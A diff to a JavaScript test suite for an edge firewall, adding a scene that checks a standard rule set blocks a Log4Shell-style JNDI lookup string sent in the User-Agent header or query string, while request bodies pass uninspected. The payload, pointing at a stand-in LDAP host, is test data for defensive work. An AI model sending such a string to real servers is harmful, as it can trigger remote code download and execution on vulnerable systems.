@@ -64,6 +64,20 @@ scene('an enforcing zone refuses what rules match, a detecting one says so, othe
   await waitFor(async () => (await edge.logged({ ray: (await edge.get('/?a=evil')).get('cf-ray') })).waf === undefined, { what: 'the zone to be off' })
 })
 
+scene('a zone in its standard state refuses known breaches by the head, and bodies stream on unseen', async s => {
+  const edge = await edgeWith(s, undefined, { more: { waf_standard: true } })
+  const jndi = '${jndi:ldap://x.test/a}'
+  let r = await edge.get('/', { headers: { 'User-Agent': jndi } })
+  eq([r.status, (await edge.logged({ ray: r.get('cf-ray') })).error], [403, 'ERR_BLOCKED'])
+  eq((await edge.get('/?q=' + encodeURIComponent(jndi))).status, 403)
+  eq((await edge.get('/?q=evil')).status, 200) // the rules of the node are not asked
+  r = await edge.request('POST', '/json', { headers: { 'Content-Type': 'application/json' }, body: '{"broken' })
+  eq([r.status, r.text], [200, 'POST /json 8 -'])
+  eq((await form(edge, 'a=' + encodeURIComponent(jndi))).status, 200)
+  edge.plan(zone('test', { 'www.test': edge.app }, { waf_standard: false }))
+  await waitFor(async () => (await edge.get('/', { headers: { 'User-Agent': jndi } })).status === 200, { what: 'the zone to be off' })
+})
+
 scene('values that are secrets are not written', async s => {
   const edge = await edgeWith(s, { mode: 'detect' })
   await form(edge, 'password=hunter2', { 'X-Test-Id': 'secret' })
